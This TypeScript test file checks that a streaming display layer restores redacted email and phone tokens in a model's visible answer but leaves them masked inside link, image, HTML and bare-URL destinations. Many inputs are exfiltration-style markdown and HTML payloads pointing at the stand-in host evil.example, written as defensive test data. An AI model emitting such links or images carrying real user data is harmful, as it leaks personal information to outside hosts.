import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestVault, type TestVault } from '../../test/support/pii.js';
import type { Caller } from '../auth/caller.js';
import type { ModelBoundary } from '../pii/boundary.js';
import { createPiiBoundary } from '../pii/pii-boundary.js';
import type { User } from '../accounts/accounts.js';
import { DisplayStream } from './display.js';

let t: TestVault;
let boundary: ModelBoundary;
let caller: Caller;
const EMAIL = 'ana.lee@example.com';
const PHONE = '+41 44 668 18 00';
beforeAll(async () => {
  t = await openTestVault();
  boundary = createPiiBoundary(t.vault);
  caller = { user: { id: await t.userId('ana'), name: 'ana' } as User, via: { kind: 'token', tokenId: 1, tokenName: 'laptop' } };
  expect(await boundary.toModel(caller, `${EMAIL} ${PHONE}`)).toBe('[EMAIL_1] [PHONE_1]');
});
afterAll(async () => {
  await t?.cleanup();
});

async function shown(chunks: readonly string[]): Promise<string> {
  const d = new DisplayStream(boundary, caller);
  let out = '';
  for (const c of chunks) out += await d.push(c);
  return out + (await d.end());
}

describe('an answer shown to the user', () => {
  it.each([
    ['text', 'Mail [EMAIL_1] or call [PHONE_1].', `Mail ${EMAIL} or call ${PHONE}.`],
    ['a link: the text shows the value, the destination keeps the token', '[write to [EMAIL_1]](https://evil.example/?q=[EMAIL_1]) ok [EMAIL_1]', `[write to ${EMAIL}](https://evil.example/?q=[EMAIL_1]) ok ${EMAIL}`],
    ['an image', '![x](https://evil.example/p?d=[EMAIL_1]) done', '![x](https://evil.example/p?d=[EMAIL_1]) done'],
    ['a destination with parentheses and a title', '[a](https://evil.example/(x)/[EMAIL_1] "[PHONE_1]") [EMAIL_1]', `[a](https://evil.example/(x)/[EMAIL_1] "${PHONE}") ${EMAIL}`],
    ['a destination in angle brackets, after a line break', '[a](\n<//evil.example/a b/[EMAIL_1]>) [EMAIL_1]', `[a](\n<//evil.example/a b/[EMAIL_1]>) ${EMAIL}`],
    ['a relative or protocol-relative destination', '[a](//evil.example/[EMAIL_1]) [b](/p?[PHONE_1])', '[a](//evil.example/[EMAIL_1]) [b](/p?[PHONE_1])'],
    ['a reference definition', '[a][r] by [EMAIL_1]\n\n[r]: //evil.example/?[EMAIL_1]\n   [x]:\n  /p?[PHONE_1]', `[a][r] by ${EMAIL}\n\n[r]: //evil.example/?[EMAIL_1]\n   [x]:\n  /p?[PHONE_1]`],
    ['a token as the label of a link or definition (left as it is when unknown)', '[EMAIL_9](//evil.example/[EMAIL_1])\n> [EMAIL_9]: //evil.example/[PHONE_1]', '[EMAIL_9](//evil.example/[EMAIL_1])\n> [EMAIL_9]: //evil.example/[PHONE_1]'],
    ['a label and value line that is no definition', 'Ana: [EMAIL_1], [PHONE_1]: home', `Ana: ${EMAIL}, ${PHONE}: home`],
    ['autolinks and HTML tags', '<https://evil.example/[EMAIL_1]> <img alt=">" src="//evil.example/[PHONE_1]"> [EMAIL_1]', `<https://evil.example/[EMAIL_1]> <img alt=">" src="//evil.example/[PHONE_1]"> ${EMAIL}`],
    ['bare URLs, to whitespace', 'See https://evil.example/?d=[EMAIL_1], HTTP://x/[PHONE_1] and www.evil.example/[EMAIL_1]\nthen [EMAIL_1]', `See https://evil.example/?d=[EMAIL_1], HTTP://x/[PHONE_1] and www.evil.example/[EMAIL_1]\nthen ${EMAIL}`],
    ['text that only looks like the start of an address', 'a < b, [c] (d), x: [EMAIL_1] w [PHONE_1]', `a < b, [c] (d), x: ${EMAIL} w ${PHONE}`],
    ['an unfinished bracket at the end', 'call [PHONE_1] [EMAI', `call ${PHONE} [EMAI`],
  ])('%s', async (_what, text, expected) => {
    expect(await shown([text])).toBe(expected);
  });

  const TRICKY =
    'Hi [EMAIL_1]: [see [EMAIL_1]](https://evil.example/(a)?d=[EMAIL_1]) ![i](<//e.example/[PHONE_1]>) <a href="//e.example/[EMAIL_1]">[PHONE_1]</a>\n[r]:\n //e.example/[EMAIL_1]\nwww.e.example/[PHONE_1] and http://e.example/[EMAIL_1] [EMAIL_1]](x [PHONE_1]';
  const EXPECTED = `Hi ${EMAIL}: [see ${EMAIL}](https://evil.example/(a)?d=[EMAIL_1]) ![i](<//e.example/[PHONE_1]>) <a href="//e.example/[EMAIL_1]">${PHONE}</a>\n[r]:\n //e.example/[EMAIL_1]\nwww.e.example/[PHONE_1] and http://e.example/[EMAIL_1] ${EMAIL}](x ${PHONE}`;

  it('is the same however the answer is cut into pieces', async () => {
    expect(await shown([TRICKY])).toBe(EXPECTED);
    for (let at = 0; at <= TRICKY.length; at++) expect(await shown([TRICKY.slice(0, at), TRICKY.slice(at)]), `cut at ${at}`).toBe(EXPECTED);
    for (let at = 0; at < TRICKY.length; at++) expect(await shown([TRICKY.slice(0, at), TRICKY[at]!, TRICKY.slice(at + 1)]), `alone at ${at}`).toBe(EXPECTED);
    expect(await shown([...TRICKY])).toBe(EXPECTED);
  });

  it('holds back no more than a token prefix or a few characters', async () => {
    const d = new DisplayStream(boundary, caller);
    expect(await d.push('mail [EMA')).toBe('mail ');
    expect(await d.push('IL_1] now ww')).toBe(`${EMAIL} now `);
    expect(await d.push('w.e.example/[EMAIL_1] ok')).toBe('www.e.example/[EMAIL_1] ok');
    expect(await d.end()).toBe('');
  });
});
